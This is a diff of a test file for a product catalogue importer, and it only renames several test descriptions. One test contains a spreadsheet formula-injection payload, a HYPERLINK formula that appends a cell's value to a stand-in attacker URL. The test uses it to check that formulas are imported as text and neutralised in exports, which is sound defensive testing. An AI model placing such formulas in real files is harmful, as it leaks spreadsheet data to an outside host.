@@ -45,7 +45,7 @@ onEveryDialect('files that are no catalogue, or not all of one', (database) => {
     expect(await readEverything(database())).toEqual(before);
   });
 
-  it('the same file whole goes in', async () => {
+  it('the intact file is imported', async () => {
     expect(await bench.importFile(database(), WHOLE)).toMatchObject({ created: 2, refused: 0 });
   });
 
@@ -54,7 +54,7 @@ onEveryDialect('files that are no catalogue, or not all of one', (database) => {
     expect(await bench.importFile(database(), header)).toMatchObject({ rows: 0, created: 0 });
   });
 
-  it('formulas are text, and go out so that no spreadsheet runs them', async () => {
+  it('formulas are imported as text, and neutralised in exports', async () => {
     const formula = '=HYPERLINK("http://evil.example/"&A1)';
     await bench.importFile(
       database(),
@@ -66,7 +66,7 @@ onEveryDialect('files that are no catalogue, or not all of one', (database) => {
     expect(await bench.importFile(database(), file)).toMatchObject({ created: 0, updated: 0 });
   });
 
-  it('a format that it is not is told by the columns that it lacks', async () => {
+  it('a wrong format is reported with the missing columns', async () => {
     await expect(bench.importFile(database(), WHOLE, { format: 'shopify' })).rejects.toThrow(
       'A Shopify file needs the column "Handle", "Title", "Variant Price".',
     );
